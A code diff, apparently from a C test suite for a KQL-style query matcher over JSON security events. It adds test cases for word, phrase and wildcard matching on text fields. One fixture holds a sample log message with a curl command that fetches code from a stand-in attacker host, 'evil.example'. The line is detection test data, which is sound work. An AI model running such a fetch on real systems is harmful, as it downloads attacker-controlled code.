@@ -36,6 +36,9 @@
 	"{\"users\":[{\"name\":\"alice\",\"role\":\"admin\"},{\"name\":\"bob\",\"role\":\"user\"}],"                   \
 	"\"proc\":{\"parent\":{\"name\":\"zsh\"},\"name\":\"curl\"}}"
 
+#define TEXT_EVENT                                                                                                     \
+	"{\"message\":\"Process launched: curl -fsSL https://evil.example/x\",\"process\":{\"name\":\"curl\"}}"
+
 #define NET_EVENT                                                                                                      \
 	"{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"destination\":{\"ip\":\"10.20.30.40\",\"port\":443},"              \
 	"\"source\":{\"ip\":\"fe80::1\"},\"host\":{\"ip\":[\"192.168.1.5\",\"::1\"]}}"
@@ -233,6 +236,17 @@ static const struct kql_case cases[] = {
     {"host.ip: \"0:0::1\"", NET_EVENT, 1}, /* any value of an array */
     {"host.ip: 192.168.0.0/16", NET_EVENT, 1},
     {"destination.ip: 10.*", NET_EVENT, 1}, /* a wildcard is still a wildcard */
+    /* a text field (message, *.text) matches by its words, as Elasticsearch's analyzer splits them */
+    {"message: curl", TEXT_EVENT, 1},
+    {"message: CURL", TEXT_EVENT, 1},
+    {"message: evil", TEXT_EVENT, 1},     /* a word of the URL */
+    {"message: foo curl", TEXT_EVENT, 1}, /* any word of the value (match, OR) */
+    {"message: foo bar", TEXT_EVENT, 0},
+    {"message: \"launched curl\"", TEXT_EVENT, 1}, /* a phrase: its words in a row */
+    {"message: \"curl launched\"", TEXT_EVENT, 0},
+    {"message: cur*", TEXT_EVENT, 1},
+    {"message: laun", TEXT_EVENT, 0},      /* a word, not a substring */
+    {"process.name: CURL", TEXT_EVENT, 0}, /* a keyword stays exact */
     /* a date field: the same instant in any form, epoch milliseconds in ranges */
     {"@timestamp: \"2024-05-01T12:00:00+02:00\"", NET_EVENT, 1},
     {"@timestamp: \"2024-05-01T10:00:00.000Z\"", NET_EVENT, 1},
